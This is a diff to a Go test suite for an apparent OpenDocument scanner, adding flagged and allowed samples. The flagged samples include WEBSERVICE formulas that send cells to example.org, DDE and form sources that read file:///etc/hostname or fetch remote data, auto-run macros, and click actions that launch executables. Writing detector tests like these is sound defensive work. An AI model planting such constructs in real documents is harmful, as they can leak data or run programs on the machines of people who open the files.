@@ -240,7 +240,72 @@ func odfTricks(runs, fine addOffice) {
 	runs("formula-of-excel-that-sends-cells", odsType, body(odsType, `<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://example.org/&quot;)"/>`))
 	runs("key-that-starts-a-macro", odtType, parts{"Configurations2/accelerator/current.xml": `<accel:acceleratorlist xmlns:accel="a" xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item xlink:href="` + href + `"/></accel:acceleratorlist>`})
 	fine("dde-formula-to-itself", odsType, body(odsType, `<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;a.ods&quot;;&quot;A1&quot;)"/>`))
+	odfSources(runs, fine)
 	fine("section-from-a-neighbour", odtType, body(odtType, `<text:section text:name="a"><text:section-source xlink:href="../terms.odt"/></text:section>`))
+	runs("macro-on-load-of-another-element", odtType, body(odtType, `<office:event-listeners><script:event script:language="StarBasic" script:event-name="dom:load" script:macro-name="application:Standard.Module1.Main"/></office:event-listeners>`))
+	runs("macro-on-load-of-an-element-of-presentations", odtType, body(odtType, `<presentation:x script:event-name="dom:load" script:macro-name="a"/>`))
+	runs("program-behind-a-click-on-another-element", odpType, body(odpType, `<presentation:x script:event-name="dom:click" presentation:action="execute" xlink:href="file:///usr/bin/xcalc"/>`))
+	runs("program-linked-to-an-event-of-another-element", odpType, body(odpType, `<presentation:x script:event-name="dom:click" xlink:href="file:///C:/a.exe"/>`))
+	fine("event-without-a-macro", odtType, body(odtType, `<script:event-listener script:language="ooo:script" script:event-name="dom:load" script:macro-name=""/>`))
+	fine("click-on-another-element-that-shows-a-page", odpType, body(odpType, `<presentation:x script:event-name="dom:click" presentation:action="show" xlink:href="#page2"/>`))
+}
+
+// odfSources are what LibreOffice fetches by itself, by formulas too.
+func odfSources(runs, fine addOffice) {
+	cell := func(formula string) parts {
+		return body(odsType, `<table:table-cell table:formula="`+strings.ReplaceAll(formula, `"`, "&quot;")+`"/>`)
+	}
+	instance := func(attr string) parts { return body(odtType, `<x:model><x:instance `+attr+`/></x:model>`) }
+	rule := func(element, value string) parts {
+		return body(odsType, `<calcext:conditional-format><calcext:`+element+` calcext:type="formula" calcext:value="`+strings.ReplaceAll(value, `"`, "&quot;")+`"/></calcext:conditional-format>`)
+	}
+	for _, to := range [][2]string{
+		{"the-web", `"https://example.org/a.ods"`}, {"a-share", `"\\host\a.ods"`}, {"a-file-by-its-address", `"file:///etc/hostname"`},
+		{"a-cell", `[.A1]`}, {"parts", `"ht"&amp;"tps://example.org/a.ods"`}, {"a-function", `CONCATENATE("a")`},
+	} {
+		runs("dde-formula-to-"+to[0], odsType, cell(`of:=DDE("soffice";`+to[1]+`;"A1")`))
+	}
+	runs("dde-formula-to-a-service-of-parts", odsType, cell(`of:=DDE("soffice"&amp;"x";"a";"A1")`))
+	runs("dde-to-the-web", odtType, body(odtType, `<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="http://example.org/a.odt"/>`))
+	runs("dde-to-a-share", odsType, body(odsType, `<office:dde-source office:dde-application="soffice" office:dde-topic="//host/a.ods"/>`))
+	runs("dde-to-a-file-by-its-address", odsType, body(odsType, `<office:dde-source office:dde-application="soffice" office:dde-topic="file:///etc/hostname"/>`))
+	fine("dde-to-a-document-on-the-disk", odtType, body(odtType, `<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="C:\Texts\a.odt"/>`))
+	fine("dde-formula-to-a-document-on-the-disk", odsType, cell(`of:=SUM(DDE( "soffice" ; "C:\Tables (old)\a, b.ods" ; "A1" );1)`))
+
+	runs("form-whose-data-are-fetched", odtType, instance(`src="http://example.org/a.xml"`))
+	runs("form-whose-data-are-a-file", odtType, instance(`src="file:///etc/hostname"`))
+	runs("form-whose-data-lie-above", odtType, instance(`src="../../a.xml"`))
+	runs("form-whose-data-are-a-resource", odtType, instance(`resource="http://example.org/a.xml"`))
+	fine("form-with-data-in-itself", odtType, instance(`id="a" src="#data"`))
+	fine("form-with-data-in-the-package", odtType, instance(`src="data/a.xml"`))
+	fine("form-that-is-sent", odtType, body(odtType, `<x:submission resource="https://example.org/"/><draw:image src="https://example.org/a.png"/>`))
+
+	const web = `LEN(COM.MICROSOFT.WEBSERVICE("http://example.org/"))`
+	runs("rule-that-sends-cells", odsType, rule("condition", "formula-is("+web+"&gt;0)"))
+	runs("rule-that-compares-with-what-sends-cells", odsType, rule("condition", "&gt;"+web))
+	runs("rule-with-a-sign-behind-what-sends-cells", odsType, rule("condition", `WEBSERVICE("a")=1`))
+	runs("bar-that-sends-cells", odsType, rule("formatting-entry", web))
+	runs("old-bar-that-sends-cells", odsType, rule("data-bar-entry", web))
+	runs("scale-that-sends-cells", odsType, rule("color-scale-entry", web))
+	runs("condition-with-a-sign-behind-dde", odsType, body(odsType, `<style:map xmlns:style="urn:st" style:condition="DDE(1;2;3)=1"/>`))
+	fine("rule", odsType, rule("condition", `formula-is(SUM([.A1:.A3])&gt;LEN("call (me)"))`))
+	fine("rule-of-a-text", odsType, rule("condition", `contains-text("WEBSERVICE(1)")`))
+	fine("value-of-a-form", odsType, body(odsType, `<form:option xmlns:form="urn:f" form:value="call (me)"/><table:table-cell office:value="12"/>`))
+
+	runs("cell-of-a-table-from-the-web", odsType, cell(`of:='http://example.org/a.csv'#$x.A1`))
+	runs("cell-of-a-table-from-the-web-in-brackets", odsType, cell(`of:=SUM(['https://example.org/a.csv'#$x.A1:.A3])`))
+	runs("cell-of-a-table-from-the-web-of-excel", odsType, cell(`msoxl:='http://example.org/[a.xls]x'!A1`))
+	fine("cell-of-a-table-on-a-share", odsType, cell(`of:=['file://host/a.ods'#$x.A1]`))
+	runs("name-of-a-table-from-the-web", odsType, body(odsType, `<table:named-expression table:expression="['ftp://example.org/a.csv'#$x.A1]"/>`))
+	runs("table-from-the-web", odsType, body(odsType, `<table:table-source xlink:href="http://example.org/a.csv"/>`))
+	runs("cells-from-the-web", odsType, body(odsType, `<table:cell-range-source xlink:href="http://example.org/a.csv"/>`))
+	fine("cells-from-a-share", odsType, body(odsType, `<table:cell-range-source xlink:href="\\host\a.csv"/>`))
+	runs("table-read-from-the-web", odsType, body(odsType, `<calcext:data-mapping calcext:xml-input="http://example.org/a.csv"/>`))
+	runs("formula-behind-a-sheet-with-a-quote", odsType, cell(`of:=['x"'#$S.A1]+WEBSERVICE("http://example.org/")`))
+	runs("formula-behind-a-column-of-excel", odsType, cell(`msoxl:=SUM(T['#a])+WEBSERVICE("http://example.org/")+'b'!A1`))
+	fine("cell-of-a-neighbour", odsType, cell(`of:=['../a (new).ods'#$x.A1]+['file:///C:/a.ods'#$'My ''call(1)'' sheet'.A1]+['file:///home/a/b.ods'#$x.A1]`))
+	fine("table-of-a-neighbour", odsType, body(odsType, `<table:table-source xlink:href="../a.ods"/><table:cell-range-source xlink:href="file:///home/a/b.ods"/>`))
+	fine("address-as-a-text", odsType, cell(`of:="see 'http://example.org/a.csv'#$x.A1"&amp;HYPERLINK("https://example.org/";"x")`))
 }
 
 // boundTricks are refused for what they would cost, or for what programs would not agree on.
